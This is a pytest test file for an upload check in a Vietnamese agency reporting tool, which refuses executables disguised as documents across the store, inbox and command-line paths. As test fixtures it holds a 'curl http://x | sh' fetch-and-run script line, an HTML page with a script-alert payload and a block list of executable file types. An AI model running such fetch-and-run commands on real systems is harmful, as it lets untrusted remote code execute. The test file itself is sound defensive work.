"""Documents only: an allowed type whose content is that type, never a program, on every
path (the rule in store/filetypes.py, met in steps.submit; the inbox and the CLI here, the
portal in tests/web/test_attachment_types.py)."""

from __future__ import annotations

import codecs
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import Engine, func, select
from store_helpers import DATA_FIGURES, clerk, submit_for

from directive_flow.cli.main import main
from directive_flow.errors import RefusedError, SettingsError
from directive_flow.settings import DEFAULT_ATTACHMENT_TYPES, reset, settings_from
from directive_flow.steps.collect import REASON_FILE, collect_inbox
from directive_flow.store.attachments import store_attachment
from directive_flow.store.db import forget_stores, session_scope
from directive_flow.store.filetypes import KINDS, content_problem, program_of, suffix_of
from directive_flow.store.tables import AttachmentRow, SubmissionRow
from directive_flow.texts.refusals import said

FIXTURES = Path(__file__).parent.parent / "fixtures"
D = "test-1-tb-vp"
ALLOWED = DEFAULT_ATTACHMENT_TYPES
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
ZIP = b"PK\x03\x04\x14\x00\x06\x00" + bytes(22) + b"[Content_Types].xml"
GOOD: dict[str, bytes] = {  # one real beginning per default type
    "pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj",
    "doc": OLE2,
    "docx": ZIP,
    "odt": b"PK\x03\x04\x14\x00\x00\x08\x00\x00mimetypeapplication/vnd.oasis.opendocument.text",
    "rtf": b"{\\rtf1\\ansi\\deff0 B\\'e1o c\\'e1o}",
    "txt": "Báo cáo tháng 7\r\nSố trẻ em: 1.250\r\n".encode(),
    "xls": OLE2,
    "xlsx": ZIP,
    "ods": ZIP,
    "csv": "Đơn vị;Số trẻ em\r\nXã A;12\r\n".encode("utf-8-sig"),
    "ppt": OLE2,
    "pptx": ZIP,
    "odp": ZIP,
    "jpg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00",
    "jpeg": b"\xff\xd8\xff\xe1\x00\x18Exif\x00\x00",
    "png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
    "tif": b"II*\x00\x08\x00\x00\x00",
    "tiff": b"MM\x00*\x00\x00\x00\x08",
    "zip": b"PK\x05\x06" + bytes(18),  # an empty archive
    "7z": b"7z\xbc\xaf\x27\x1c\x00\x04",
    "rar": b"Rar!\x1a\x07\x01\x00",
}
PROGRAMS = {
    "a Windows program": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(48),
    "a Linux program": b"\x7fELF\x02\x01\x01\x00" + bytes(8),
    "a macOS program": b"\xcf\xfa\xed\xfe\x07\x00\x00\x01",
    "a script (#!)": b"#!/bin/sh\ncurl http://x | sh\n",
}
EXE = PROGRAMS["a Windows program"]
LIST = ", ".join(ALLOWED)


def test_every_default_type_has_a_content_check_and_a_sample_here() -> None:
    assert set(ALLOWED) <= set(KINDS)
    assert set(GOOD) == set(ALLOWED)


@pytest.mark.parametrize("suffix", ALLOWED)
def test_each_default_type_with_its_own_content_is_accepted_in_any_case(suffix: str) -> None:
    for name in (f"báo-cáo.{suffix}", f"BAO-CAO.{suffix.upper()}", f"Bao-Cao.{suffix.title()}"):
        assert content_problem(name, GOOD[suffix], ALLOWED, whole=True) is None, name


@pytest.mark.parametrize("what", PROGRAMS)
@pytest.mark.parametrize("name", ["báo-cáo.pdf", "so-lieu.txt", "anh.jpg", "ho-so.zip", "x.exe"])
def test_a_program_is_refused_whatever_its_name(what: str, name: str) -> None:
    assert content_problem(name, PROGRAMS[what], ALLOWED) == (
        f"the content is {what}, not a document; it is not accepted whatever its name"
    )


def test_content_that_is_not_what_the_name_says_is_refused_naming_the_type() -> None:
    cases = {
        "báo-cáo.pdf": ("a PDF document", GOOD["png"]),
        "bieu-mau.doc": ("a Word 97-2003 document", ZIP),  # a .docx renamed .doc
        "bieu-mau.docx": ("a Word document", OLE2),
        "so-lieu.xls": (
            "an Excel 97-2003 workbook",
            b"<html><table><tr><td>1</td>",
        ),  # "Xuất Excel"
        "anh.png": ("a PNG image", GOOD["jpg"]),
        "ho-so.rar": ("a RAR archive", ZIP),
        "so-lieu.csv": ("CSV text", GOOD["xlsx"]),
        "ghi-chu.txt": ("plain text", b"\x00\x01\x02binary"),
    }
    for name, (label, content) in cases.items():
        suffix = suffix_of(name)
        assert content_problem(name, content, ALLOWED) == (
            f"the content is not {label} (.{suffix}); attach the real file, "
            f"or save it again as .{suffix}"
        ), name


def test_a_type_not_allowed_or_no_type_is_refused_listing_the_types() -> None:
    for name in ("cai-dat.exe", "chay.bat", "trang.html", "ve.svg", "bao-cao.pdf.exe"):
        assert content_problem(name, b"hello", ALLOWED) == (
            f"a file of type .{suffix_of(name)} is not accepted; attach one of these types: {LIST}"
        )
    for name in ("bao-cao", "bao-cao.exe.", ".pdf."):
        assert content_problem(name, b"%PDF-1.4", ALLOWED) == (
            f"the name has no type (such as .pdf); attach a file of one of these types: {LIST}"
        )


def test_text_is_utf8_utf16_with_its_mark_or_a_vietnamese_code_page() -> None:
    line = "Số trẻ em được hỗ trợ: 1.250\r\n"
    for content in (
        line.encode(),
        line.encode("utf-8-sig"),
        codecs.BOM_UTF16_LE + line.encode("utf-16-le"),
        codecs.BOM_UTF16_BE + line.encode("utf-16-be"),
        "Báo cáo tháng 7: 1.250\r\n".encode("cp1258"),  # Notepad's "ANSI" on a Vietnamese Windows
        b"S\xe8 tr\xce em\t12\x0c\r\n\x1a",  # TCVN3 bytes, a tab, a form feed, DOS's Ctrl-Z
    ):
        assert content_problem("so-lieu.txt", content, ALLOWED, whole=True) is None, content
    for content in (
        line.encode("utf-16-le"),  # no byte-order mark: NUL bytes
        codecs.BOM_UTF16_LE + b"\x00\xd8",  # a lone surrogate
        b"a\x1b[31mred",  # a terminal escape
    ):
        assert content_problem("so-lieu.txt", content, ALLOWED, whole=True) is not None, content
    cut = codecs.BOM_UTF16_LE + "ố".encode("utf-16-le")[:1]  # the head ends mid-character
    assert content_problem("a.txt", cut, ALLOWED, whole=False) is None
    assert content_problem("a.txt", cut, ALLOWED, whole=True) is not None


def test_a_type_an_installation_adds_without_a_check_only_refuses_programs() -> None:
    allowed = (*ALLOWED, "xml")
    assert content_problem("hoa-don.xml", b"<?xml version='1.0'?><HDon/>", allowed) is None
    assert content_problem("hoa-don.xml", EXE, allowed) is not None


_PREFIXES = [b"%PDF-", b"%PDF", b"%pdf-", b"PDF-", b" %PDF-", b"\xef\xbb\xbf%PDF-", b"MZ"]


@settings(max_examples=300)
@given(
    st.one_of(
        st.binary(max_size=64),
        st.tuples(st.sampled_from(_PREFIXES), st.binary(max_size=64)).map(b"".join),
    ),
    st.sampled_from(["bao-cao.pdf", "BÁO-CÁO.PDF", "x.Pdf"]),
)
def test_any_bytes_named_pdf_are_accepted_iff_they_start_with_the_pdf_header(
    content: bytes, name: str
) -> None:
    accepted = content_problem(name, content, ALLOWED, whole=True) is None
    assert accepted == content.startswith(b"%PDF-")


_TEXT_BYTES = st.binary(max_size=200).map(
    lambda b: bytes(c for c in b if c >= 0x20 or c in b"\t\n\r\x0c")
)


@given(_TEXT_BYTES, st.sampled_from(["a.txt", "B.CSV"]))
def test_any_bytes_without_control_characters_are_text_unless_a_program(
    content: bytes, name: str
) -> None:
    program = program_of(content) is not None  # MZ, #!, or a Mach-O magic's high bytes
    assert (content_problem(name, content, ALLOWED, whole=True) is None) == (not program)


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    content=st.one_of(
        st.binary(min_size=1, max_size=32),
        st.binary(max_size=32).map(lambda b: b"%PDF-" + b),
    )
)
def test_the_store_keeps_bytes_named_pdf_iff_they_are_a_pdf_and_writes_nothing_else(
    content: bytes, tmp_path: Path
) -> None:
    source, home = tmp_path / "upload", tmp_path / f"home-{time.monotonic_ns()}"
    source.write_bytes(content)
    if content.startswith(b"%PDF-"):
        store_attachment(source, home=home, name="báo-cáo.pdf", types=ALLOWED)
        assert [p.read_bytes() for p in home.rglob("*") if p.is_file()] == [content]
    else:
        with pytest.raises(RefusedError, match=r"^báo-cáo\.pdf: the content is "):
            store_attachment(source, home=home, name="báo-cáo.pdf", types=ALLOWED)
        assert not home.exists()  # not even the folder: nothing half-written


def test_the_store_refuses_a_program_given_its_types(tmp_path: Path) -> None:
    scan, home = tmp_path / "scan", tmp_path / "home"
    scan.write_bytes(EXE)
    with pytest.raises(RefusedError, match=r"^scan\.pdf: the content is a Windows program"):
        store_attachment(scan, home=home, name="scan.pdf", types=ALLOWED)
    assert not home.exists()
    assert store_attachment(scan, home=home)  # without types, a plain copy (tools, tests)


# -- the setting


def test_the_types_are_read_from_the_environment_any_case_and_separator() -> None:
    assert settings_from({}).attachment_suffixes == ALLOWED
    given = {"DIRECTIVE_FLOW_ATTACHMENT_TYPES": " PDF, .Docx;gif  p7s,pdf"}
    assert settings_from(given).attachment_suffixes == ("pdf", "docx", "gif", "p7s")


@pytest.mark.parametrize(
    ("value", "said_"),
    [
        ("pdf,exe,BAT", "DIRECTIVE_FLOW_ATTACHMENT_TYPES: bat, exe: a program's type is never accepted"),
        ("pdf,.html", "DIRECTIVE_FLOW_ATTACHMENT_TYPES: html: a program's type is never accepted"),
        ("pdf,tar.gz", "DIRECTIVE_FLOW_ATTACHMENT_TYPES: 'tar.gz' is not a file type (letters and digits, e.g. pdf,docx)"),
        (", ;", "DIRECTIVE_FLOW_ATTACHMENT_TYPES: no file type given (e.g. pdf,docx,xlsx)"),
    ],
)  # fmt: skip
def test_a_program_or_a_malformed_type_is_refused_at_start_up(value: str, said_: str) -> None:
    with pytest.raises(SettingsError) as caught:
        settings_from({"DIRECTIVE_FLOW_ATTACHMENT_TYPES": value})
    assert str(caught.value) == said_


@pytest.mark.parametrize(
    "program",
    [
        *("chm", "hlp", "scf", "url", "msc", "msu", "mst", "sct", "shs", "ocx"),  # Windows runs
        *("vb", "ws", "wsc", "ps1xml", "psc1", "psd1", "psm1", "py", "pyw", "pl"),  # scripts
        *("appx", "msix", "appinstaller", "application", "gadget", "xll", "xbap"),
        *("iso", "img", "vhd", "vhdx"),  # disk images Windows mounts and runs from
        *("command", "csh", "ksh", "zsh", "dmg", "pkg", "run", "mjs", "cjs"),  # macOS, Unix
        *("mht", "mhtml", "xht", "shtml", "svgz"),  # pages a browser runs scripts in
    ],
)
def test_a_type_windows_a_shell_or_a_browser_runs_is_refused_at_start_up(program: str) -> None:
    # the content check knows no such type: its name is all that tells it is a program
    assert program not in KINDS
    with pytest.raises(SettingsError, match=rf": {program}: a program's type is never accepted$"):
        settings_from({"DIRECTIVE_FLOW_ATTACHMENT_TYPES": f"pdf,{program.upper()}"})


# -- submit: every path's one step


@pytest.fixture
def types_env(monkeypatch: pytest.MonkeyPatch) -> Iterator[pytest.MonkeyPatch]:
    """The process's settings, changed by the test, forgotten after it."""
    reset()
    yield monkeypatch
    monkeypatch.delenv("DIRECTIVE_FLOW_ATTACHMENT_TYPES", raising=False)
    reset()


def _submit(engine: Engine, home: Path, files: list[Path]) -> object:
    with session_scope(engine) as session:
        return submit_for(
            session,
            directive="store-data-1",
            task="collect/ubnd-huyen-a",
            agency="ubnd-huyen-a",
            actor=clerk("ubnd-huyen-a"),
            home=home,
            data=DATA_FIGURES,
            attachments=files,
            at=datetime(2024, 1, 20, 3, tzinfo=UTC),
        )


def _stored(engine: Engine, home: Path) -> tuple[int, int, list[Path]]:
    with session_scope(engine) as session:
        rows = session.scalar(select(func.count()).select_from(SubmissionRow)) or 0
        files = session.scalar(select(func.count()).select_from(AttachmentRow)) or 0
    on_disk = [p for p in (home / "attachments").rglob("*") if p.is_file()]
    return rows, files, on_disk


def test_a_disguised_program_refuses_the_whole_submission_and_nothing_is_kept(
    data_store: Engine, home: Path, tmp_path: Path, types_env: pytest.MonkeyPatch
) -> None:
    good, disguised, page = tmp_path / "bien-ban.pdf", tmp_path / "báo-cáo.pdf", tmp_path / "x.html"
    good.write_bytes(GOOD["pdf"])
    disguised.write_bytes(EXE)
    page.write_bytes(b"<html><script>alert(1)</script>")
    with pytest.raises(RefusedError) as refused:
        _submit(data_store, home, [good, disguised, page])
    assert refused.value.problems == (
        "báo-cáo.pdf: the content is a Windows program, not a document; it is not accepted "
        "whatever its name",
        f"x.html: a file of type .html is not accepted; attach one of these types: {LIST}",
    )
    assert _stored(data_store, home) == (0, 0, [])  # not even the good PDF
    assert [said(p) for p in refused.value.problems] == [
        "báo-cáo.pdf: Nội dung tệp là một chương trình Windows, không phải tài liệu: không "
        "nhận tệp này, dù tệp mang tên gì.",
        f"x.html: Không nhận tệp loại .html: hãy đính kèm tệp thuộc một trong các loại {LIST}.",
    ]
    assert _submit(data_store, home, [good])  # the same submission without them is taken
    assert _stored(data_store, home)[:2] == (1, 1)


def test_the_installation_s_types_apply(
    data_store: Engine, home: Path, tmp_path: Path, types_env: pytest.MonkeyPatch
) -> None:
    types_env.setenv("DIRECTIVE_FLOW_ATTACHMENT_TYPES", "pdf, GIF")
    reset()
    animation, sheet = tmp_path / "so-do.GIF", tmp_path / "so-lieu.xlsx"
    animation.write_bytes(b"GIF89a\x01\x00\x01\x00")
    sheet.write_bytes(ZIP)
    with pytest.raises(RefusedError) as refused:
        _submit(data_store, home, [animation, sheet])
    assert refused.value.problems == (
        "so-lieu.xlsx: a file of type .xlsx is not accepted; attach one of these types: pdf, gif",
    )
    assert _submit(data_store, home, [animation])


def test_a_file_changed_after_its_check_is_refused_by_the_store_itself(
    data_store: Engine,
    home: Path,
    tmp_path: Path,
    types_env: pytest.MonkeyPatch,
) -> None:
    """The store checks the bytes it keeps: a file swapped between the check and the copy
    (an inbox folder is its sender's to write) is refused, not kept."""
    from directive_flow.steps import submit as step

    types_env.setattr(step, "_attachment_problems", lambda files, types: [])  # the check passed
    swapped = tmp_path / "báo-cáo.pdf"
    swapped.write_bytes(EXE)
    with pytest.raises(RefusedError) as refused:
        _submit(data_store, home, [swapped])
    assert refused.value.summary == "submission for task 'collect/ubnd-huyen-a' refused:"
    assert refused.value.problems == (
        "báo-cáo.pdf: the content is a Windows program, not a document; it is not accepted "
        "whatever its name",
    )
    assert _stored(data_store, home) == (0, 0, [])


# -- the inbox: the folder refused with its reason, the other folders go on


def _drop(home: Path, agency: str, task: str, files: dict[str, bytes]) -> Path:
    folder = home / "inbox" / agency / D / task.replace("/", "__")
    folder.mkdir(parents=True)
    for name, content in files.items():
        (folder / name).write_bytes(content)
    return folder


def test_the_inbox_refuses_the_folder_with_the_bad_file_and_takes_the_others(
    registered: Engine, home: Path
) -> None:
    figures = b"children: 12\n"
    _drop(home, "so-yt", "supply-data/so-yt", {"data.yaml": figures, "báo-cáo.pdf": EXE})
    _drop(
        home,
        "ubnd-huyen-a",
        "supply-data/ubnd-huyen-a",
        {"data.yaml": figures, "bien-ban.pdf": GOOD["pdf"]},
    )
    start = time.time()
    collect_inbox(registered, home=home, now=start)
    report = collect_inbox(registered, home=home, now=start + 120)
    outcomes = {o.folder.split("/")[0]: o for o in report.outcomes}
    assert outcomes["ubnd-huyen-a"].outcome == "ingested"
    bad = outcomes["so-yt"]
    assert (bad.outcome, bad.problems) == (
        "rejected",
        (
            "báo-cáo.pdf: the content is a Windows program, not a document; it is not "
            "accepted whatever its name",
        ),
    )
    assert bad.moved_to is not None
    note = (bad.moved_to / REASON_FILE).read_text("utf-8-sig")
    assert (
        "- báo-cáo.pdf: Nội dung tệp là một chương trình Windows, không phải tài liệu: không "
        "nhận tệp này, dù tệp mang tên gì. (the content is a Windows program, not a "
        "document; it is not accepted whatever its name)"
    ) in note.splitlines()
    assert (bad.moved_to / "báo-cáo.pdf").read_bytes() == EXE  # kept where the agency sees it
    with session_scope(registered) as session:
        assert [r.agency for r in session.scalars(select(SubmissionRow))] == ["ubnd-huyen-a"]
        assert [a.original_name for a in session.scalars(select(AttachmentRow))] == ["bien-ban.pdf"]
    stored = [p.read_bytes() for p in (home / "attachments").rglob("*") if p.is_file()]
    assert stored == [GOOD["pdf"]]  # the program was never copied into the store


# -- the command line: one line naming the file, exit 1 like every refusal


def test_the_cli_refuses_a_disguised_program_on_one_located_line(
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    database_url: str,
    types_env: pytest.MonkeyPatch,
) -> None:
    home = tmp_path / "home"
    types_env.setenv("DIRECTIVE_FLOW_HOME", str(home))
    types_env.setenv("DIRECTIVE_FLOW_DATABASE_URL", database_url)
    reset()
    try:
        valid = str(FIXTURES / "valid" / "directive.yaml")
        assert main(["register", valid, "--as-of", "2024-07-01"]) == 0
        disguised = tmp_path / "báo-cáo.pdf"
        disguised.write_bytes(EXE)
        argv = ["submit", D, "finalize-report/so-ldtbxh", "--agency", "so-ldtbxh"]
        capsys.readouterr()
        code = main([*argv, "--attach", str(disguised), "--as", "clerk"])
        out, err = capsys.readouterr()
        assert (code, out) == (1, "")
        assert err.splitlines() == [
            "directive-flow: lỗi: Báo cáo, số liệu của nhiệm vụ finalize-report/so-ldtbxh bị "
            "từ chối:",
            "  - báo-cáo.pdf: Nội dung tệp là một chương trình Windows, không phải tài liệu: "
            "không nhận tệp này, dù tệp mang tên gì.",
        ]
        code = main(["--lang", "en", *argv, "--attach", str(disguised), "--as", "clerk"])
        err = capsys.readouterr().err
        assert code == 1
        assert "báo-cáo.pdf: the content is a Windows program, not a document" in err
        assert not (home / "attachments").exists()
    finally:
        forget_stores()
